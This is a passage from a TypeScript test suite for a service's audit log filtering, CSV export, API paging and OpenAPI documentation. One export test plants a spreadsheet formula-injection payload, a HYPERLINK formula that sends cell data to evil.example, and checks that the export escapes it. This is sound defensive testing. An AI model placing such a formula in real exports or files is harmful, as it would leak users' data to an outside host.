    const recordId = randomUUID()
    const event = (user: { id: string; organisationId: string }, action: string, occurredAt: string) => ({
      user_id: user.id,
      organisation_id: user.organisationId,
      action,
      record_type: 'user',
      record_id: recordId,
      ip: '203.0.113.7',
      details: JSON.stringify({ arranged: true }),
      occurred_at: occurredAt,
    })
    await db()
      .insertInto('audit_events')
      .values([
        event(userA, 'organisation.created', '2025-06-01T10:00:00Z'),
        event(userA, 'user.created', '2025-06-10T22:30:00Z'), // 23:30 on 10 June in the UK
        event(userA, 'user.updated', '2025-06-10T23:30:00Z'), // 00:30 on 11 June in the UK
        event(userB, 'user.created', '2025-06-20T12:00:00Z'),
      ])
      .execute()
    return { organisationA, organisationB, userA, userB, recordId }
  }

  it('narrows the rows by user, organisation, action and date range', async () => {
    const auditor = await t.signInAs(['auditor'])
    const { organisationB, userA, userB } = await arrange()
    const table = async (query: string) => {
      const response = await auditor.get(`/audit?${query}`)
      expect(response.statusCode, query).toBe(200)
      return auditTable(response.body)
    }

    const byUser = await table(`userId=${userA.id}`)
    expect(byUser.total).toBe(3)
    expect(byUser.rows).toHaveLength(3)
    for (const row of byUser.rows) expect(row).toContain('Audit Alpha')
    expect(byUser.rows.join(' ')).not.toContain('Audit Bravo')
    // Newest first.
    expect(byUser.rows[0]).toContain('Changed user')
    expect(byUser.rows[2]).toContain('Created organisation')

    const byOrganisation = await table(`organisationId=${organisationB.id}`)
    expect(byOrganisation.total).toBe(1)
    expect(byOrganisation.rows[0]).toContain('Audit Bravo')
    expect(byOrganisation.rows[0]).toContain('Created user')

    expect((await table(`userId=${userA.id}&action=user.created`)).total).toBe(1)
    expect((await table(`userId=${userB.id}&action=organisation.created`)).total).toBe(0)

    // Dates are whole UK days: 00:30 BST on 11 June belongs to the 11th, 23:30 BST on the 10th to the 10th.
    expect((await table(`userId=${userA.id}&from=2025-06-11`)).total).toBe(1)
    expect((await table(`userId=${userA.id}&to=2025-06-10`)).total).toBe(2)
    expect((await table(`userId=${userA.id}&from=2025-06-02&to=2025-06-10`)).total).toBe(1)
    expect((await table(`userId=${userA.id}&from=2025-06-10&to=2025-06-10`)).total).toBe(1)
    expect((await table(`userId=${userA.id}&from=2025-07-01`)).total).toBe(0)
    // The selected filters stay selected.
    const page = await auditor.get(`/audit?userId=${userA.id}&from=2025-06-11`)
    expect(page.body).toMatch(new RegExp(`<option value="${userA.id}" selected`))
    expect(page.body).toContain(`href="/audit/export.csv?userId=${userA.id}&amp;from=2025-06-11"`)
  })

  it('answers an invalid filter with a 400 page and an error summary', async () => {
    const auditor = await t.signInAs(['auditor'])
    const notADate = await auditor.get('/audit?from=31%2F12%2F2025')
    expectFormError(notADate, 'from', 'From date must be a date like 2026-11-23')
    // A date the calendar does not have: JavaScript's Date.parse rolls 30 February into March; the database would fail.
    expectFormError(await auditor.get('/audit?to=2025-02-30'), 'to', 'To date must be a real date')
    expectFormError(await auditor.get('/audit?from=2025-13-01'), 'from', 'From date must be a real date')
    expectFormError(await auditor.get('/audit?userId=someone'), 'userId', 'Select a user from the list')
    expectFormError(await auditor.get('/audit?action=user.deleted'), 'action', 'Select an action from the list')

    const api = await auditor.get('/api/v1/audit-events?from=2025-02-30')
    expect(api.statusCode).toBe(400)
    expect(api.json().message).toContain('From date must be a real date')
    const csv = await auditor.get('/audit/export.csv?to=2025-02-29')
    expect(csv.statusCode).toBe(400)
    expect(csv.body).toContain('To date must be a real date')
  })

  it('exports the matching events as CSV, audits the export, and escapes cells that a spreadsheet would run as formulas', async () => {
    const auditor = await t.signInAs(['auditor'])
    const formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
    const organisation = await t.factories.organisation({ name: `@SUM(1+1) ${tag()}` })
    const sneaky = await t.factories.user({ name: formula, organisationId: organisation.id })
    await db()
      .insertInto('audit_events')
      .values(['sign_in', 'password_changed'].map((action) => ({ user_id: sneaky.id, organisation_id: organisation.id, action, record_type: 'user', record_id: sneaky.id, ip: '198.51.100.1', details: '{}' })))
      .execute()

    const response = await auditor.get(`/audit/export.csv?userId=${sneaky.id}`)
    expect(response.statusCode).toBe(200)
    expect(response.headers['content-type']).toBe('text/csv; charset=utf-8')
    expect(response.headers['content-disposition']).toMatch(/^attachment; filename="audit-log-\d{4}-\d{2}-\d{2}\.csv"$/)

    const [header, ...rows] = parseCsv(response.body)
    expect(header).toEqual(['id', 'occurred_at', 'user', 'user_email', 'organisation', 'action', 'action_description', 'record_type', 'record_id', 'ip', 'details'])
    expect(rows).toHaveLength(2)
    expect(rows.map((row) => row[5])).toEqual(['password_changed', 'sign_in'])
    expect(rows.map((row) => row[6])).toEqual(['Changed own password', 'Signed in'])
    for (const row of rows) {
      expect(row).toHaveLength(11)
      expect(row[2]).toBe(`'${formula}`)
      expect(row[3]).toBe(sneaky.email)
      expect(row[4]).toBe(`'${organisation.name}`)
      expect(row[8]).toBe(sneaky.id)
      expect(new Date(row[1]!).toISOString()).toBe(row[1])
      // No cell a spreadsheet would evaluate.
      for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/)
    }

    const [exported] = await auditEvents({ action: 'audit.exported', userId: auditor.user.id })
    expect(exported).toMatchObject({ organisation_id: auditor.user.organisationId, details: { filter: { userId: sneaky.id } } })
  })

  it('exports one line per matching event across batches, newest first', async () => {
    const auditor = await t.signInAs(['auditor'])
    const user = await t.factories.user()
    const recordId = randomUUID()
    await db()
      .insertInto('audit_events')
      .values(Array.from({ length: 1005 }, () => ({ user_id: user.id, organisation_id: user.organisationId, action: 'user.updated', record_type: 'user', record_id: recordId, ip: null, details: '{}' })))
      .execute()
    const response = await auditor.get(`/audit/export.csv?recordId=${recordId}`)
    expect(response.statusCode).toBe(200)
    const [, ...rows] = parseCsv(response.body)
    expect(rows).toHaveLength(1005)
    const ids = rows.map((row) => Number(row[0]))
    expect(new Set(ids).size).toBe(1005)
    expect(ids).toEqual([...ids].sort((a, b) => b - a))
  })

  it('answers a database failure part-way through an export with an error, without crashing the process', async () => {
    const auditor = await t.signInAs(['auditor'])
    const failing = {
      insert: async () => undefined,
      page: async () => ({ rows: [], total: 0 }),
      // eslint-disable-next-line require-yield
      stream: async function* () {
        throw new Error('connection to the database was lost')
      },
    } as unknown as AuditRepository
    const app = await createApp({ ...t.services, audit: auditService(failing) })
    try {
      await app.ready()
      const agent = new Agent(app)
      agent.cookies = new Map(auditor.cookies)
      const response = await agent.get('/audit/export.csv')
      expect(response.statusCode).toBe(500)
      expect(response.body).toContain('Sorry, there is a problem with the service')
      expect(response.body).not.toContain('connection to the database was lost')
      // The server still answers.
      expect((await agent.get('/api/v1/health')).statusCode).toBe(200)
    } finally {
      await app.close()
    }
  })

  it('pages and filters events on the API', async () => {
    const auditor = await t.signInAs(['auditor'])
    const user = await t.factories.user()
    const recordId = randomUUID()
    await db()
      .insertInto('audit_events')
      .values(Array.from({ length: 55 }, (_, i) => ({ user_id: user.id, organisation_id: user.organisationId, action: i < 30 ? 'user.created' : 'user.updated', record_type: 'user', record_id: recordId, ip: '192.0.2.1', details: JSON.stringify({ n: i }) })))
      .execute()

    const first = await auditor.get(`/api/v1/audit-events?recordId=${recordId}`)
    expect(first.statusCode).toBe(200)
    const page1 = first.json()
    expect(page1).toMatchObject({ total: 55, page: 1, pages: 2 })
    expect(page1.events).toHaveLength(50)
    expect(page1.events[0]).toMatchObject({ userId: user.id, organisationId: user.organisationId, action: 'user.updated', recordType: 'user', recordId, ip: '192.0.2.1', details: { n: 54 } })
    expect(typeof page1.events[0].id).toBe('number')
    expect(new Date(page1.events[0].occurredAt).getTime()).not.toBeNaN()

    const page2 = (await auditor.get(`/api/v1/audit-events?recordId=${recordId}&page=2`)).json()
    expect(page2).toMatchObject({ total: 55, page: 2, pages: 2 })
    expect(page2.events).toHaveLength(5)
    const ids = [...page1.events, ...page2.events].map((event: { id: number }) => event.id)
    expect(new Set(ids).size).toBe(55)
    expect(ids).toEqual([...ids].sort((a, b) => b - a))

    const filtered = (await auditor.get(`/api/v1/audit-events?recordId=${recordId}&action=user.created`)).json()
    expect(filtered).toMatchObject({ total: 30, pages: 1 })
    expect(filtered.events.every((event: { action: string }) => event.action === 'user.created')).toBe(true)
    const byUser = (await auditor.get(`/api/v1/audit-events?userId=${user.id}&organisationId=${user.organisationId}`)).json()
    expect(byUser.total).toBe(55)
    expect((await auditor.get(`/api/v1/audit-events?recordId=${recordId}&to=2000-01-01`)).json().total).toBe(0)

    const bad = await auditor.get('/api/v1/audit-events?userId=nobody')
    expect(bad.statusCode).toBe(400)
    expect(bad.json().message).toContain('Select a user from the list')
  })
})

// ---- API documentation and health ----

describe('API documentation and health', () => {
  const apiPaths = ['/api/v1/health', '/api/v1/me', '/api/v1/organisations', '/api/v1/organisations/{id}', '/api/v1/users', '/api/v1/users/{id}', '/api/v1/users/{id}/deactivate', '/api/v1/audit-events']

  it('publishes an OpenAPI 3 document of the API routes only', async () => {
    const response = await t.app.inject({ url: '/api/v1/openapi.json' })
    expect(response.statusCode).toBe(200)
    const document = response.json()
    expect(document.openapi).toMatch(/^3\./)
    expect(document.info.title).toBe('Safer Communities API')
    const paths = Object.keys(document.paths)
    for (const path of apiPaths) expect(paths).toContain(path)
    expect(paths.every((path) => path.startsWith('/api/'))).toBe(true)
    expect(paths.some((path) => path.startsWith('/admin/') || path === '/audit' || path.startsWith('/audit/'))).toBe(false)
    expect(Object.keys(document.paths['/api/v1/users'])).toEqual(expect.arrayContaining(['get', 'post']))
    expect(document.paths['/api/v1/organisations/{id}'].patch.requestBody.content['application/json'].schema.properties).toHaveProperty('name')
  })

  it('renders the API documentation page listing those paths', async () => {
    const response = await t.app.inject({ url: '/api-docs' })
    expect(response.statusCode).toBe(200)
    expect(response.headers['content-type']).toMatch(/^text\/html/)
    for (const path of apiPaths) expect(response.body).toContain(`<code>${path}</code>`)
    expect(response.body).not.toContain('<code>/admin/')
  })

  it('reports health', async () => {
    const response = await t.app.inject({ url: '/api/v1/health' })
    expect(response.statusCode).toBe(200)
    expect(response.json()).toEqual({ status: 'ok', database: serverUrl ? 'postgres' : 'pglite' })
  })
})
